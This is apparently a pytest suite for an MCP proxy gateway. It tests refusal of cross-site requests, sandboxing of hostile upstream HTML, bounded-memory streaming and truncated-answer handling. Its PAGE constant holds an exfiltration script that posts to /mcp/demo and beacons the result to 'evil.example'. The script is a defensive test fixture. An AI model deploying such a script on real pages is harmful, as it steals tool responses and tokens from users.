"""A hostile upstream gets nothing (issue 16, items 1 and 4): its HTML never runs on mcpproxy's origin, no
other site's page reaches /mcp with a server's token, and no answer's size grows the gateway.

The hostile upstream is this test's own HTTP server on loopback: it answers every request with an HTML
page whose script would call /mcp/OTHER, and records what reached it.
"""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator

import psutil
import pytest
import requests

from tests.conftest import ServiceFactory
from tests.harness import ServiceHandle, wait_until
from tests.loopback import LoopbackHTTPServer, QuietHandler
from tests.mcpserver.control import MCPServerHandle

PAGE = b"<html><script>fetch('/mcp/demo',{method:'POST',body:'{}'}).then(r=>r.text()).then(t=>navigator.sendBeacon('http://evil.example',t))</script></html>"
INITIALIZE = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
              "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                         "clientInfo": {"name": "hostile-test", "version": "0"}}}
MCP_ACCEPT = "application/json, text/event-stream"
# What Chromium sends for a link followed from another site, and for an <img> on another site's page.
NAVIGATION = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document",
              "Sec-Fetch-User": "?1", "Accept": "text/html"}
IMAGE = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}


class HostileUpstream(LoopbackHTTPServer):
    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        upstream = self

        class Handler(QuietHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                upstream.requests.append((self.command, self.path, dict(self.headers)))
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(PAGE)))
                self.end_headers()
                self.wfile.write(PAGE)

            do_GET = do_POST = do_DELETE = _answer

        super().__init__(Handler, "/mcp")


@pytest.fixture
def hostile() -> Iterator[HostileUpstream]:
    up = HostileUpstream()
    yield up
    up.close()


@pytest.fixture
def svc(service_factory: ServiceFactory, mcp_server: MCPServerHandle, hostile: HostileUpstream) -> ServiceHandle:
    svc = service_factory([
        {"name": "demo", "url": mcp_server.url, "protocol": "http", "oauth": {}},
        {"name": "hostile", "url": hostile.url, "protocol": "http", "oauth": None},
    ])
    svc.login("demo")
    return svc


def _assert_sealed(r: requests.Response) -> None:
    assert r.headers.get("Content-Security-Policy") == "sandbox; default-src 'none'", dict(r.headers)
    assert r.headers.get("X-Content-Type-Options") == "nosniff", dict(r.headers)


def test_another_sites_page_never_reaches_the_upstream(svc: ServiceHandle, hostile: HostileUpstream) -> None:
    cases = [
        ("GET", NAVIGATION),
        ("GET", IMAGE),
        ("POST", {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}),
        ("POST", {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}),
        ("POST", {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}),
    ]
    for name in ("hostile", "demo"):
        for method, headers in cases:
            r = requests.request(method, f"{svc.base_url}/mcp/{name}?attacker=1", json=INITIALIZE, timeout=30,
                                 headers=headers)
            assert r.status_code == 403, (name, method, headers, r.status_code, r.text[:200])
            assert "Sec-Fetch" in r.text, r.text
            _assert_sealed(r)
    assert hostile.requests == [], "a refused request reached the upstream"
    # An MCP client sends no fetch metadata, and a script on our own origin says same-origin: both pass.
    for extra in ({}, {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}):
        r = requests.post(f"{svc.base_url}/mcp/demo", json=INITIALIZE, timeout=30,
                          headers={"Accept": MCP_ACCEPT, **extra})
        assert r.status_code == 200, (extra, r.status_code, r.text[:300])
        _assert_sealed(r)


def test_an_upstream_html_page_is_never_served(svc: ServiceHandle, hostile: HostileUpstream) -> None:
    for method in ("GET", "POST", "DELETE"):
        r = requests.request(method, f"{svc.base_url}/mcp/hostile", json=INITIALIZE, timeout=30,
                             headers={"Accept": MCP_ACCEPT})
        assert r.headers["Content-Type"].startswith("application/json"), (method, dict(r.headers))
        assert b"<script" not in r.content and b"<html" not in r.content, r.content[:300]
        body = r.json()
        assert r.status_code == 502 and body["error"]["data"]["kind"] == "upstream", (r.status_code, body)
        assert "text/html" in body["error"]["message"], body
        _assert_sealed(r)
    assert len(hostile.requests) == 3
    assert "hostile" in svc.logs() and "not relayed" in svc.logs()


# ---- item 4: an upstream's answer of any size passes through in bounded memory ------------------

#: The answer's size; MCPPROXY_BIG_ANSWER_MB=300 measures the issue's case (about 10 s on this machine).
BIG_MB = int(os.environ.get("MCPPROXY_BIG_ANSWER_MB", "64"))
CHUNK = 1024 * 1024


class BigUpstream(LoopbackHTTPServer):
    """An MCP server whose every answer is one JSON-RPC result `size` bytes long, written 1 MiB at a time."""

    def __init__(self, size: int) -> None:
        head, tail = b'{"jsonrpc":"2.0","id":1,"result":{"blob":"', b'"}}'
        self.size = size

        class Handler(QuietHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:  # noqa: N802 — http.server's name
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(size))
                self.end_headers()
                try:
                    self.wfile.write(head)
                    left = size - len(head) - len(tail)
                    block = b"A" * CHUNK
                    while left > 0:
                        self.wfile.write(block[:left])
                        left -= CHUNK
                    self.wfile.write(tail)
                except (BrokenPipeError, ConnectionResetError):
                    pass

        super().__init__(Handler, "/mcp")


def relay_and_measure(svc: ServiceHandle, name: str) -> tuple[int, int, bytes, requests.Response]:
    """Streams one answer through /mcp/NAME, discarding it as it comes, while sampling the gateway's RSS every
    10 ms: (bytes received, peak RSS growth in bytes, the answer's last bytes, the response)."""
    assert svc.proc is not None
    gateway = psutil.Process(svc.proc.pid)
    base = gateway.memory_info().rss
    peak = base
    done = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, gateway.memory_info().rss)
            done.wait(0.01)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    received, last = 0, b""
    try:
        with requests.post(f"{svc.base_url}/mcp/{name}", json=INITIALIZE, headers={"Accept": MCP_ACCEPT},
                           stream=True, timeout=(10, 120)) as r:
            for chunk in r.iter_content(CHUNK):
                received += len(chunk)
                last = (last + chunk)[-64:]
    finally:
        done.set()
        sampler.join(5)
    peak = max(peak, gateway.memory_info().rss)
    return received, peak - base, last, r


def test_a_huge_upstream_answer_passes_through_in_bounded_memory(service_factory: ServiceFactory) -> None:
    size = BIG_MB * 1024 * 1024
    big = BigUpstream(size)
    try:
        svc = service_factory([{"name": "big", "url": big.url, "protocol": "http", "oauth": None}])
        received, growth, last, r = relay_and_measure(svc, "big")
        print(f"\n{BIG_MB} MB answer through /mcp: the gateway grew by {growth / 2**20:.1f} MiB (peak RSS)")
        assert r.status_code == 200 and r.headers["Content-Type"].startswith("application/json"), dict(r.headers)
        _assert_sealed(r)
        assert received == size and last.endswith(b'AAAA"}}'), (received, last)
        # Whole-answer buffering grew it by about three times the answer; streaming by a few buffers.
        assert growth < 24 * 2**20, f"the gateway grew by {growth / 2**20:.0f} MiB relaying {BIG_MB} MiB"
        assert requests.get(f"{svc.base_url}/readyz", timeout=10).status_code == 200
    finally:
        big.close()


class CutOffUpstream(LoopbackHTTPServer):
    """Promises an answer (by Content-Length, or chunked) and hangs up halfway through it."""

    def __init__(self) -> None:
        class Handler(QuietHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:  # noqa: N802 — http.server's name
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                chunked = "chunked" in self.path
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Transfer-Encoding" if chunked else "Content-Length",
                                 "chunked" if chunked else str(4 * CHUNK))
                self.end_headers()
                half = b'{"jsonrpc":"2.0","id":1,"result":{"blob":"' + b"A" * (2 * CHUNK)
                self.wfile.write(b"%x\r\n%s\r\n" % (len(half), half) if chunked else half)
                self.wfile.flush()
                self.close_connection = True

        super().__init__(Handler)


def test_an_answer_cut_off_upstream_is_never_passed_on_as_whole(service_factory: ServiceFactory) -> None:
    cut = CutOffUpstream()
    try:
        svc = service_factory([{"name": "sized", "url": cut.url + "/sized", "protocol": "http", "oauth": None},
                               {"name": "chunked", "url": cut.url + "/chunked", "protocol": "http", "oauth": None}])
        for name in ("sized", "chunked"):
            with pytest.raises(requests.exceptions.ChunkedEncodingError):
                with requests.post(f"{svc.base_url}/mcp/{name}", json=INITIALIZE, headers={"Accept": MCP_ACCEPT},
                                   stream=True, timeout=(10, 60)) as r:
                    assert r.status_code == 200
                    for _chunk in r.iter_content(CHUNK):
                        pass
        wait_until(lambda: svc.logs().count("upstream answer broke off") >= 2, 10, "the cut-off logged")
        assert requests.get(f"{svc.base_url}/readyz", timeout=10).status_code == 200
    finally:
        cut.close()


class QuietStreamUpstream(LoopbackHTTPServer):
    """A GET stream (text/event-stream) that sends one event, stays quiet, then — on /late — one more event
    after `late` seconds; it records when the gateway hangs up on it."""

    def __init__(self, late: float) -> None:
        self.hung_up: list[str] = []  # the paths whose stream the gateway hung up on
        upstream = self

        class Handler(QuietHandler):
            protocol_version = "HTTP/1.1"

            def _event(self, text: str) -> None:
                data = f"event: message\ndata: {text}\n\n".encode()
                self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
                self.wfile.flush()

            def do_GET(self) -> None:  # noqa: N802 — http.server's name
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()
                self._event('{"first": true}')
                if self.path.endswith("/late"):
                    threading.Event().wait(late)
                    self._event('{"late": true}')
                self.connection.settimeout(60)
                try:  # nothing more to send: wait for the other side to hang up
                    while self.connection.recv(1024):
                        pass
                except OSError:
                    pass
                upstream.hung_up.append(self.path)
                self.close_connection = True

        super().__init__(Handler)


def test_a_quiet_stream_outlives_the_liveness_look_and_a_departed_client_closes_it(
        service_factory: ServiceFactory) -> None:
    from mcpproxy.gateway.passthrough import LIVENESS_CHECK

    quiet = QuietStreamUpstream(late=LIVENESS_CHECK + 1.5)
    try:
        svc = service_factory([{"name": "late", "url": quiet.url + "/late", "protocol": "http", "oauth": None},
                               {"name": "gone", "url": quiet.url + "/gone", "protocol": "http", "oauth": None}])
        # An event after more than one liveness look still arrives: the look takes no data.
        with requests.get(f"{svc.base_url}/mcp/late", headers={"Accept": "text/event-stream"}, stream=True,
                          timeout=(10, 60)) as r:
            assert r.status_code == 200
            lines = r.iter_lines()
            assert b'data: {"first": true}' in [next(lines) for _ in range(2)]
            assert b'data: {"late": true}' in [next(lines) for _ in range(3)]
        # A client that leaves a quiet stream: the gateway notices at its next look and hangs up upstream.
        with requests.get(f"{svc.base_url}/mcp/gone", headers={"Accept": "text/event-stream"}, stream=True,
                          timeout=(10, 60)) as r:
            assert r.status_code == 200
            lines = r.iter_lines()
            assert b'data: {"first": true}' in [next(lines) for _ in range(2)]
        wait_until(lambda: "/gone" in quiet.hung_up, LIVENESS_CHECK + 15,
                   "the gateway hanging up the upstream stream after its client left")
        assert requests.get(f"{svc.base_url}/readyz", timeout=10).status_code == 200
    finally:
        quiet.close()
